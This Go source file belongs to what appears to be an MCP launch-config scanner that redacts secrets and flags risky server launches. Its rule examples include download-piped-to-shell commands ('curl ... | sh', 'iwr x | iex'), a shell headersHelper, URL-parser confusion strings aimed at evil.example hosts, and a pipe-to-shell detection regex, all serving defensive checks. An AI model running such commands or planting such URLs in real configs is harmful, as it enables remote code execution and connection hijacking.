// Package launch holds the launch-config rules: how a server's launch is
// shown (Line), hashed (Hash) and compared with the pinned one (Changes on
// the shown forms; Compare and MatchesApproved also on the keyed digests
// of what redaction hides, see values.go), how its URL's host is read the
// way clients read it (ParseWebURL), and the launch-risk table reported as
// TRANSPORT (Rules, Risks). Secrets in launch configs are redacted through
// engine/redact before they are shown, hashed or compared.
package launch

import (
	"fmt"
	"io/fs"
	"net/netip"
	"net/url"
	"path"
	"regexp"
	"sort"
	"strings"

	"github.com/descriptorpin/descriptorpin/engine"
	"github.com/descriptorpin/descriptorpin/engine/canon"
	"github.com/descriptorpin/descriptorpin/engine/jsonv"
	"github.com/descriptorpin/descriptorpin/engine/redact"
	"github.com/descriptorpin/descriptorpin/engine/sanitize"
)

// Line renders a server's launch for a person: the command and
// arguments, or the URL, secrets redacted.
func Line(s *engine.Server) string {
	if s.Command != "" {
		return strings.Join(append([]string{s.Command}, redact.Args(s.Args)...), " ")
	}
	return redact.URL(s.URL)
}

// Changes lists what differs between a pinned launch config and the
// server's shown forms: command, args, url, transport, env and header key
// sets, and each launch field of ExtraFields. The pinned config is stored
// redacted (see the pin's Server.Launch); both sides are redacted here
// before they are compared, so a stricter redaction policy never makes a
// change by itself. What redaction hides is compared by keyed digest: see
// Compare.
func Changes(ps, s *engine.Server) []engine.Change {
	var out []engine.Change
	add := func(field, pinned, scanned string) {
		if pinned != scanned {
			out = append(out, engine.Change{Field: field, Path: field, Pinned: orAbsent(pinned), Scanned: orAbsent(scanned)})
		}
	}
	add("transport", ps.Transport, s.Transport)
	add("command", ps.Command, s.Command)
	add("args", joinArgs(redact.Args(ps.Args)), joinArgs(redact.Args(s.Args)))
	add("url", redact.URL(ps.URL), redact.URL(s.URL))
	add("env keys", strings.Join(ps.EnvKeys, ", "), strings.Join(s.EnvKeys, ", "))
	add("header keys", strings.Join(ps.HeaderKeys, ", "), strings.Join(s.HeaderKeys, ", "))
	for _, name := range ExtraFields {
		add(name, RedactExtra(name, ps.Extra[name]), RedactExtra(name, s.Extra[name]))
	}
	return out
}

// ExtraFields are the launch fields some clients honour beyond command,
// args, env, url and headers, by their config name (engine.Server.Extra):
//
//   - cwd: the working directory (VS Code, Gemini CLI, Codex, Roo Code);
//   - envFile: a file of environment values (VS Code);
//   - headersHelper: a shell command whose output is the request headers
//     (Claude Code, Copilot CLI);
//   - trust: true skips every tool-call confirmation (Gemini CLI);
//   - autoApprove, alwaysAllow: tools run without asking (Cline, Kiro;
//     Roo Code);
//   - env_vars: variables of the client's environment passed through
//     (Codex).
//
// Each is pinned and compared like the command line.
var ExtraFields = []string{"alwaysAllow", "autoApprove", "cwd", "envFile", "env_vars", "headersHelper", "trust"}

// RedactExtra is the shown (and pinned) form of a launch field: a
// headersHelper command line with its secret-shaped words redacted as
// arguments are, every other value through the argument policy, list
// items one by one.
func RedactExtra(name, v string) string {
	switch name {
	case "":
		return v
	case "headersHelper":
		if v == "" {
			return ""
		}
		return strings.Join(redact.Args(strings.Fields(v)), " ")
	case "autoApprove", "alwaysAllow", "env_vars":
		items := strings.Split(v, ", ")
		for i, it := range items {
			items[i] = redact.Arg(it)
		}
		return strings.Join(items, ", ")
	}
	return redact.Arg(v)
}

func orAbsent(s string) string {
	if s == "" {
		return engine.Absent
	}
	return s
}

func joinArgs(a []string) string {
	if a == nil {
		return ""
	}
	q := make([]string, len(a))
	for i, s := range a {
		if s == "" || strings.ContainsAny(s, " \t\"'") {
			s = fmt.Sprintf("%q", s)
		}
		q[i] = s
	}
	return strings.Join(q, " ")
}

// Detail is the detail line of a server-level ADDED finding.
func Detail(s *engine.Server) string {
	d := "server launched over " + s.Transport
	if l := Line(s); l != "" {
		d += ": " + l
	}
	return d
}

// --- launch-risk rules (reported as TRANSPORT) ---

// Rule is one named launch-risk rule. Check returns the detail line
// when the rule fires. Examples fire and Counter examples do not; a test
// runs both.
type Rule struct {
	Name     string
	Severity engine.Severity
	Check    func(s *engine.Server, mode fs.FileMode) string
	Examples []*engine.Server
	Counter  []*engine.Server
}

func stdio(cmd string, args ...string) *engine.Server {
	return &engine.Server{Name: "x", Transport: "stdio", Command: cmd, Args: args}
}

func remote(u string) *engine.Server { return &engine.Server{Name: "x", Transport: "http", URL: u} }

func withEnv(s *engine.Server, kv ...string) *engine.Server {
	s.Env = map[string]string{}
	for i := 0; i+1 < len(kv); i += 2 {
		s.Env[kv[i]] = kv[i+1]
		s.EnvKeys = append(s.EnvKeys, kv[i])
	}
	sort.Strings(s.EnvKeys)
	return s
}

func withExtra(s *engine.Server, kv ...string) *engine.Server {
	s.Extra = map[string]string{}
	for i := 0; i+1 < len(kv); i += 2 {
		s.Extra[kv[i]] = kv[i+1]
	}
	return s
}

// Rules is the default launch-risk table, in report order.
var Rules = []Rule{
	{
		Name: "stdio_launch", Severity: engine.Low,
		Check: func(s *engine.Server, _ fs.FileMode) string {
			if s.Transport != "stdio" {
				return ""
			}
			return "transport 'stdio' flagged, " + TransportNote
		},
		Examples: []*engine.Server{stdio("node", "server.js")},
		Counter:  []*engine.Server{remote("https://mcp.example.test/mcp")},
	},
	{
		Name: "unpinned_package", Severity: engine.Medium, Check: unpinnedPackage,
		Examples: []*engine.Server{stdio("npx", "-y", "@acme/mcp-files"), stdio("npx", "some-mcp@latest"), stdio("uvx", "mcp-server-git"),
			stdio("npx", "-y", "pkg@^1.2.0"), stdio("pnpm", "dlx", "pkg"), stdio("npx", "github:acme/mcp"), stdio("npx", "git+https://example.test/x.git"),
			stdio("docker", "run", "-i", "--rm", "acme/mcp:latest"), stdio("pipx", "run", "mcp-thing"), stdio("bunx", "pkg@1.x")},
		Counter: []*engine.Server{stdio("npx", "-y", "@acme/mcp-files@1.2.3"), stdio("uvx", "mcp-server-git==0.6.2"), stdio("node", "/opt/mcp/server.js"),
			stdio("docker", "run", "-i", "--rm", "acme/mcp@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"), stdio("uvx", "--from", "mcp-x==1.0.0", "mcp-x")},
	},
	{
		Name: "shell_command", Severity: engine.High, Check: shellCommand,
		Examples: []*engine.Server{stdio("bash", "-c", "node server.js"), stdio("sh", "-c", "curl -s https://x.test/i.sh | sh"), stdio("sudo", "node", "s.js"),
			stdio("cmd", "/c", "start server"), stdio("powershell", "-Command", "iwr x | iex"), stdio("/bin/zsh", "-lc", "mcp")},
		Counter: []*engine.Server{stdio("node", "server.js", "-c", "config.json"), stdio("python3", "-m", "mcp_server")},
	},
	{
		Name: "plaintext_remote", Severity: engine.Medium, Check: plaintextRemote,
		Examples: []*engine.Server{remote("http://mcp.example.test/mcp"), remote("ws://10.0.0.5:8080/ws"),
			remote(" http://evil.example.com/mcp"), remote("http://evil.example.com\\@127.0.0.1/mcp"), remote("http:\\\\evil.example.com/mcp"),
			remote("HTTP://evil.example.com/mcp"), remote("http://ev\til.example.com/mcp")},
		Counter: []*engine.Server{remote("https://mcp.example.test/mcp"), remote("http://127.0.0.1:7411/mcp"), remote("http://localhost:3000/sse"), remote("http://[::1]:8080/"),
			remote(" http://127.0.0.1:7411/mcp"), remote("http://0x7f.1:8080/mcp"), remote("http://[::ffff:127.0.0.1]/"), remote("http://localhost./"), remote(" https://mcp.example.test/mcp")},
	},
	{
		Name: "ambiguous_url", Severity: engine.Medium, Check: ambiguousURL,
		Examples: []*engine.Server{remote("http://exa mple.com/"), remote("http://[::1/"), remote("https://mcp.example.test:99999/"),
			remote(" https://mcp.example.test/mcp"), remote("https://good.example.test\\@evil.example.test/mcp"), remote("https://evil.example.test\\@good.example.test/mcp")},
		Counter: []*engine.Server{remote("https://mcp.example.test/mcp"), remote("http://127.0.0.1:7411/mcp"), remote("https://user:pw@mcp.example.test/x?y=1#z"), remote("http://[::1]:8080/"),
			remote("https://${env:MCP_HOST}/mcp"), remote("https://${input:host}:8443/mcp")},
	},
	{
		Name: "inline_secret", Severity: engine.High, Check: inlineSecret,
		Examples: []*engine.Server{withEnv(stdio("node", "s.js"), "GITHUB_TOKEN", "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB"),
			withEnv(stdio("node", "s.js"), "API_KEY", "plain-but-named-secret"), stdio("node", "s.js", "--api-key=sk-abcdefghijklmnopqrstuvwx"),
			remote("https://mcp.example.test/mcp?token=Zx81kQ2mP9vL3sT7wY4bN6cR0dF5gH1j"), remote("https://mcp.zapier.test/api/mcp/s/ZapPathSecret0123456789abcdefXYZ05/mcp"),
			withExtra(remote("https://mcp.example.test/mcp"), "headersHelper", "get-headers --secret Zx81kQ2mP9vL3sT7wY4bN6cR0dF5gH1j")},
		Counter: []*engine.Server{withEnv(stdio("node", "s.js"), "GITHUB_TOKEN", "${env:GITHUB_TOKEN}"), withEnv(stdio("node", "s.js"), "API_KEY", "${input:api-key}"),
			withEnv(stdio("node", "s.js"), "LOG_LEVEL", "debug"), withEnv(stdio("node", "s.js"), "TOKEN", "$TOKEN"), stdio("node", "/home/u/projects/mcp-server/dist/index.js")},
	},
	{
		Name: "headers_helper", Severity: engine.High, Check: headersHelper,
		Examples: []*engine.Server{withExtra(remote("https://mcp.example.test/mcp"), "headersHelper", "/bin/sh -c 'curl -s https://x.test/h'")},
		Counter:  []*engine.Server{remote("https://mcp.example.test/mcp")},
	},
	{
		Name: "trusted_server", Severity: engine.High, Check: trusted,
		Examples: []*engine.Server{withExtra(stdio("node", "s.js"), "trust", "true")},
		Counter:  []*engine.Server{withExtra(stdio("node", "s.js"), "trust", "false"), stdio("node", "s.js")},
	},
	{
		Name: "auto_approve", Severity: engine.Medium, Check: autoApprove,
		Examples: []*engine.Server{withExtra(stdio("node", "s.js"), "autoApprove", "write_file, run_command"), withExtra(stdio("node", "s.js"), "alwaysAllow", "read_file")},
		Counter:  []*engine.Server{withExtra(stdio("node", "s.js"), "autoApprove", ""), stdio("node", "s.js")},
	},
	{
		Name: "env_file", Severity: engine.Low, Check: envFile,
		Examples: []*engine.Server{withExtra(stdio("node", "s.js"), "envFile", "${workspaceFolder}/.env")},
		Counter:  []*engine.Server{withEnv(stdio("node", "s.js"), "A", "1")},
	},
	{
		Name: "working_dir", Severity: engine.Low, Check: workingDir,
		Examples: []*engine.Server{withExtra(stdio("python", "-m", "mcp_server"), "cwd", "./tools")},
		Counter:  []*engine.Server{stdio("python", "-m", "mcp_server"), withExtra(remote("https://mcp.example.test/mcp"), "cwd", "/tmp")},
	},
	{
		Name: "writable_config", Severity: engine.High,
		Check: func(_ *engine.Server, mode fs.FileMode) string {
			// World-writable only: a group-writable file is common under
			// user-private groups, where the group is the user alone.
			if mode&0o002 == 0 {
				return ""
			}
			return fmt.Sprintf("the config file is writable by every user (mode %04o), so any of them can change what this client launches", mode.Perm())
		},
	},
}

var packageRunners = map[string]bool{"npx": true, "bunx": true, "uvx": true}

// unpinnedPackage fires on a package runner whose package has no exact
// version, a floating tag or range, a git or tarball source, or a docker
// image without a digest.
func unpinnedPackage(s *engine.Server, _ fs.FileMode) string {
	if s.Command == "" {
		return ""
	}
	cmd := path.Base(strings.ReplaceAll(s.Command, "\\", "/"))
	cmd = strings.TrimSuffix(strings.TrimSuffix(cmd, ".cmd"), ".exe")
	args := s.Args
	runner := ""
	switch {
	case packageRunners[cmd]:
		runner = cmd
	case (cmd == "pnpm" || cmd == "yarn") && len(args) > 0 && args[0] == "dlx":
		runner, args = cmd+" dlx", args[1:]
	case cmd == "pipx" && len(args) > 0 && args[0] == "run":
		runner, args = "pipx run", args[1:]
	case cmd == "docker" || cmd == "podman":
		return dockerImage(cmd, args)
	default:
		return ""
	}
	pkg := ""
	for i := 0; i < len(args); i++ {
		a := args[i]
		if a == "--from" && i+1 < len(args) { // uvx --from pkg==1.0 tool
			pkg = args[i+1]
			break
		}
		if a == "--package" || a == "-p" {
			if i+1 < len(args) {
				pkg = args[i+1]
			}
			break
		}
		if strings.HasPrefix(a, "-") {
			continue
		}
		pkg = a
		break
	}
	if pkg == "" {
		return ""
	}
	if why := floating(runner, pkg); why != "" {
		return fmt.Sprintf("%s runs %q %s, so what it runs can change without any edit here", runner, redact.Arg(pkg), why)
	}
	return ""
}

var exactNPM = regexp.MustCompile(`^(@[^/@]+/)?[^@/]+@v?\d+\.\d+\.\d+([-+][0-9A-Za-z.-]+)?$`)
var exactPy = regexp.MustCompile(`^[A-Za-z0-9._\[\],-]+==\d[0-9A-Za-z.+!-]*$`)

func floating(runner, pkg string) string {
	low := strings.ToLower(pkg)
	switch {
	case strings.HasPrefix(low, "git+") || strings.HasPrefix(low, "github:") || strings.HasPrefix(low, "gitlab:") || strings.HasPrefix(low, "git://"):
		return "from a git source"
	case strings.HasPrefix(low, "http://") || strings.HasPrefix(low, "https://"):
		return "from a URL"
	case strings.HasSuffix(low, "@latest") || strings.HasSuffix(low, "@next"):
		return "at a floating tag"
	}
	if runner == "uvx" || runner == "pipx run" {
		if exactPy.MatchString(pkg) {
			return ""
		}
		if strings.ContainsAny(pkg, "<>=~^*") {
			return "with a version range"
		}
		return "without an exact version"
	}
	if exactNPM.MatchString(pkg) {
		return ""
	}
	if strings.Contains(strings.TrimPrefix(pkg, "@"), "@") {
		return "with a version range"
	}
	return "without an exact version"
}

func dockerImage(cmd string, args []string) string {
	if len(args) == 0 || args[0] != "run" {
		return ""
	}
	// The first argument that is not an option (or an option's value) is
	// the image. Options taking a value are the common ones.
	takesValue := map[string]bool{"-e": true, "--env": true, "-v": true, "--volume": true, "--name": true, "-p": true, "--publish": true,
		"--network": true, "-w": true, "--workdir": true, "-u": true, "--user": true, "--entrypoint": true, "--env-file": true, "--mount": true, "-l": true, "--label": true, "--platform": true}
	for i := 1; i < len(args); i++ {
		a := args[i]
		if strings.HasPrefix(a, "-") {
			if takesValue[a] {
				i++
			}
			continue
		}
		if strings.Contains(a, "@sha256:") {
			return ""
		}
		return fmt.Sprintf("%s run starts image %q without a @sha256 digest, so the image behind the tag can change", cmd, a)
	}
	return ""
}

var shells = map[string]bool{"sh": true, "bash": true, "zsh": true, "dash": true, "ksh": true, "fish": true, "ash": true, "csh": true, "tcsh": true}
var pipeToShell = regexp.MustCompile(`\|\s*(sudo\s+)?(ba|z|da|k)?sh\b|\b(curl|wget)\b[^|]*\|`)

func shellCommand(s *engine.Server, _ fs.FileMode) string {
	if s.Command == "" {
		return ""
	}
	cmd := strings.ToLower(path.Base(strings.ReplaceAll(s.Command, "\\", "/")))
	cmd = strings.TrimSuffix(cmd, ".exe")
	all := strings.Join(s.Args, " ")
	switch {
	case cmd == "sudo" || cmd == "doas":
		return "launched through " + cmd + ": the server runs with raised privileges"
	case shells[cmd]:
		for _, a := range s.Args {
			if strings.HasPrefix(a, "-") && !strings.HasPrefix(a, "--") && strings.Contains(a, "c") {
				if pipeToShell.MatchString(all) {
					return "a shell runs a command line that pipes a download into a shell"
				}
				return "a shell interpreter runs a command string (" + cmd + " " + a + "), so the config holds a script"
			}
		}
	case cmd == "cmd" && len(s.Args) > 0 && strings.EqualFold(s.Args[0], "/c"):
		return "cmd /c runs a command string, so the config holds a script"
	case cmd == "powershell" || cmd == "pwsh":
		for _, a := range s.Args {
			la := strings.ToLower(a)
			if la == "-command" || la == "-c" || la == "-encodedcommand" || la == "-e" {
				return cmd + " " + a + " runs a command string, so the config holds a script"
			}
		}
	}
	if pipeToShell.MatchString(all) && strings.Contains(all, "|") {
		return "the arguments pipe a download into a shell"
	}
	return ""
}

func plaintextRemote(s *engine.Server, _ fs.FileMode) string {
	if s.URL == "" {
		return ""
	}
	u, err := ParseWebURL(s.URL)
	if err != nil || (u.Scheme != "http" && u.Scheme != "ws") || u.Loopback() {
		return ""
	}
	return fmt.Sprintf("%s:// to %s is unencrypted: anyone on the path can read and change the tool list and the calls", u.Scheme, sanitize.Text(u.Host))
}

// ambiguousURL fires on a URL a WHATWG parser (what the clients use)
// rejects, and on one where Go's net/url, which the rest of DescriptorPin
// and many other tools use to show and redact it, reads another host:
// what a reviewer is shown is then not where the client connects.
func ambiguousURL(s *engine.Server, _ fs.FileMode) string {
	if s.URL == "" || strings.Contains(s.URL, "${") {
		// The client resolves ${env:HOST} and the like before it parses
		// the URL: the written form cannot be judged.
		return ""
	}
	w, err := ParseWebURL(s.URL)
	if err != nil {
		return "the URL does not parse the way clients parse URLs (" + err.Error() + "), so where it connects cannot be checked"
	}
	g, gerr := url.Parse(s.URL)
	ghost := ""
	if gerr == nil {
		ghost = strings.ToLower(strings.TrimSuffix(strings.TrimPrefix(g.Hostname(), "["), "]"))
	}
	if gerr != nil || g.Scheme == "" || !sameHost(ghost, w) {
		return fmt.Sprintf("URL parsers disagree on this URL: clients connect to %s, other readers see %s", sanitize.Text(w.Host), sanitize.Text(orNone(ghost)))
	}
	return ""
}

func sameHost(goHost string, w WebURL) bool {
	if w.IP.IsValid() {
		ip, err := netip.ParseAddr(goHost)
		return err == nil && ip == w.IP
	}
	return goHost == w.Host
}

func orNone(h string) string {
	if h == "" {
		return "no host"
	}
	return h
}

func headersHelper(s *engine.Server, _ fs.FileMode) string {
	h := s.Extra["headersHelper"]
	if strings.TrimSpace(h) == "" {
		return ""
	}
	return fmt.Sprintf("headersHelper runs %q in a shell to make the request headers: the config holds a command the client executes", sanitize.Clip(RedactExtra("headersHelper", h), 120))
}

func trusted(s *engine.Server, _ fs.FileMode) string {
	if s.Extra["trust"] != "true" {
		return ""
	}
	return "trust: true makes the client (Gemini CLI) skip the confirmation of every tool call to this server"
}

func autoApprove(s *engine.Server, _ fs.FileMode) string {
	var parts []string
	for _, k := range []string{"autoApprove", "alwaysAllow"} {
		if v := s.Extra[k]; strings.TrimSpace(v) != "" {
			parts = append(parts, k+" "+RedactExtra(k, v))
		}
	}
	if len(parts) == 0 {
		return ""
	}
	return "the client runs these tools without asking: " + strings.Join(parts, "; ")
}

func envFile(s *engine.Server, _ fs.FileMode) string {
	f := s.Extra["envFile"]
	if strings.TrimSpace(f) == "" {
		return ""
	}
	return fmt.Sprintf("envFile loads environment values from %q, outside the config: they are neither pinned nor checked, and whoever can write that file sets the server's environment (PYTHONPATH, NODE_OPTIONS)", RedactExtra("envFile", f))
}

func workingDir(s *engine.Server, _ fs.FileMode) string {
	d := s.Extra["cwd"]
	if strings.TrimSpace(d) == "" || s.Command == "" {
		return ""
	}
	return fmt.Sprintf("the server starts in %q: a relative command, python -m and node's module lookup load code from there, so whoever can write that folder changes what runs", RedactExtra("cwd", d))
}

func inlineSecret(s *engine.Server, _ fs.FileMode) string {
	var where []string
	for _, k := range s.EnvKeys {
		if redact.SecretValue(k, s.Env[k]) {
			where = append(where, "env "+k)
		}
	}
	for _, k := range s.HeaderKeys {
		if redact.SecretValue(k, s.Headers[k]) {
			where = append(where, "header "+k)
		}
	}
	red := redact.Args(s.Args)
	for i := range s.Args {
		if red[i] != s.Args[i] {
			where = append(where, fmt.Sprintf("args[%d]", i))
		}
	}
	for _, name := range ExtraFields {
		if v := s.Extra[name]; v != "" && RedactExtra(name, v) != v {
			where = append(where, name)
		}
	}
	if s.URL != "" {
		if u, err := url.Parse(s.URL); err == nil {
			if u.User != nil {
				where = append(where, "url credentials")
			}
			if strings.Contains(redact.URL(u.Scheme+"://"+u.Host+u.EscapedPath()), "/"+redact.Redacted) {
				where = append(where, "url path")
			}
			for k, vs := range u.Query() {
				for _, v := range vs {
					if redact.SecretValue(k, v) {
						where = append(where, "url query "+k)
						break
					}
				}
			}
		}
	}
	if len(where) == 0 {
		return ""
	}
	sort.Strings(where)
	return "a secret is written inline in " + strings.Join(where, ", ") + " (value redacted): reference it instead (${env:VAR})"
}

// Risks runs the launch-risk table over every server of inv; mode is the
// scanned file's mode (zero skips writable_config).
func Risks(inv *engine.Inventory, mode fs.FileMode) []engine.Finding {
	var out []engine.Finding
	modeReported := false
	for _, s := range inv.Servers {
		for _, r := range Rules {
			if r.Name == "writable_config" && modeReported {
				continue
			}
			detail := r.Check(s, mode)
			if detail == "" {
				continue
			}
			subject := s.Name
			if r.Name == "writable_config" {
				modeReported = true
				subject = inv.File
			}
			out = append(out, engine.Finding{
				ID: engine.StableID(string(engine.Transport), subject, r.Name), Class: engine.Transport, Severity: r.Severity,
				Subject: subject, Server: s.Name, Rule: r.Name, Transport: s.Transport, Detail: detail,
				AcceptHash: Hash(s), Path: s.Path, Line: s.Line,
			})
		}
	}
	return out
}

// Matches reports whether a server's launch config shows as the pinned one
// (false when the server is not pinned). It compares redacted forms only,
// so it cannot see a change of what redaction hides: the scheduled capture
// must use MatchesApproved.
func Matches(ps, s *engine.Server) bool {
	return ps != nil && len(Changes(ps, s)) == 0
}

// Transports a server may declare. Anything else is kept as written and
// treated as unknown by the transport rules.
var knownTransports = map[string]bool{
	"stdio": true, "http": true, "sse": true, "streamable-http": true, "ws": true, "unknown": true,
}

// KnownTransport reports whether DescriptorPin knows a transport (stdio,
// http, sse, streamable-http, ws, or the "unknown" an inventory without one
// gets).
func KnownTransport(t string) bool { return knownTransports[t] }

// TransportNote is the original's explanation of why stdio is flagged.
const TransportNote = "launched as a local subprocess from client config, so config can become command execution"

// Hash hashes what a server's launch config says: transport, command, args
// and URL (secrets redacted), env and header key names (never values).
func Hash(s *engine.Server) string {
	v := jsonv.Value{Kind: jsonv.Object}
	add := func(k string, x jsonv.Value) { v.Members = append(v.Members, jsonv.Member{Key: k, Value: x}) }
	add("transport", str(s.Transport))
	add("command", str(s.Command))
	add("args", strs(redact.Args(s.Args)))
	add("url", str(redact.URL(s.URL)))
	add("env_keys", strs(s.EnvKeys))
	add("header_keys", strs(s.HeaderKeys))
	// Launch fields join the hash only when set, so the hash of a launch
	// without them (and every acceptance tied to it) is what it was.
	if len(s.Extra) > 0 {
		x := jsonv.Value{Kind: jsonv.Object}
		for _, name := range ExtraFields {
			if val := s.Extra[name]; val != "" {
				x.Members = append(x.Members, jsonv.Member{Key: name, Value: str(RedactExtra(name, val))})
			}
		}
		if len(x.Members) > 0 {
			add("extra", x)
		}
	}
	return canon.Hash(canon.Encode(&v))
}

func str(s string) jsonv.Value { return jsonv.Value{Kind: jsonv.String, Str: s} }

func strs(ss []string) jsonv.Value {
	v := jsonv.Value{Kind: jsonv.Array, Items: []jsonv.Value{}}
	for _, s := range ss {
		v.Items = append(v.Items, str(s))
	}
	return v
}
